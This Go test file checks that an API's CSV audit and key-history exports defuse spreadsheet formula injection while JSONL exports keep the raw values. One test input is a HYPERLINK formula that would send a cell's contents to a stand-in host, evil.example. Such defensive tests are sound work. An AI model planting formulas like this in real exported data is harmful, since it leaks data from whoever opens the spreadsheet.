package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/custos-dev/custos/eventstore/export"
	"github.com/custos-dev/custos/httpapi"
)

func TestCSVSafe(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"crm", "crm"},
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"2031-03-04T05:06:07Z", "2031-03-04T05:06:07Z"},
	}
	for _, tt := range tests {
		assert.Equal(t, []string{tt.want, "ok"}, httpapi.CSVSafe([]string{tt.in, "ok"}), "%q", tt.in)
	}
}

// TestCSVExportsNeutraliseFormulas records a decision whose source_id and
// a key whose name a spreadsheet would run, and checks that both CSV
// exports show them as text while JSONL keeps them byte for byte.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	e := newEvalStack(t)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	r := e.evaluate(t, e.agentKey, evalBody("s-csv", formula, "low", ""))
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	e.mustCreate(t, `{"name":"@SUM(1+1)","scope":"read"}`)

	r = e.get(t, "/v1/audit/export?format=csv&type=decision.made", e.admin)
	require.Equal(t, http.StatusOK, r.status)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	assert.Equal(t, "source_id", rows[0][12])
	assert.Equal(t, "'"+formula, rows[1][12])
	assert.Equal(t, "DENY", rows[1][5])

	r = e.get(t, "/v1/keys/history?format=csv", e.admin)
	require.Equal(t, http.StatusOK, r.status)
	rows, err = csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	require.NoError(t, err)
	names := []string{}
	for _, row := range rows[1:] {
		names = append(names, row[3])
	}
	assert.Contains(t, names, "'@SUM(1+1)")
	assert.NotContains(t, names, "@SUM(1+1)")

	// JSONL: the exact values, and the export still verifies.
	r = e.get(t, "/v1/audit/export?type=decision.made", e.admin)
	require.Equal(t, http.StatusOK, r.status)
	var line export.Line
	require.NoError(t, json.Unmarshal(bytes.TrimSpace(r.body), &line))
	assert.Contains(t, string(line.Payload), `"source_id":"=HYPERLINK(\"http://evil.example/?\"\u0026A1,\"open\")"`)
	r = e.get(t, "/v1/keys/history", e.admin)
	assert.Contains(t, string(r.body), `"name":"@SUM(1+1)"`)
}
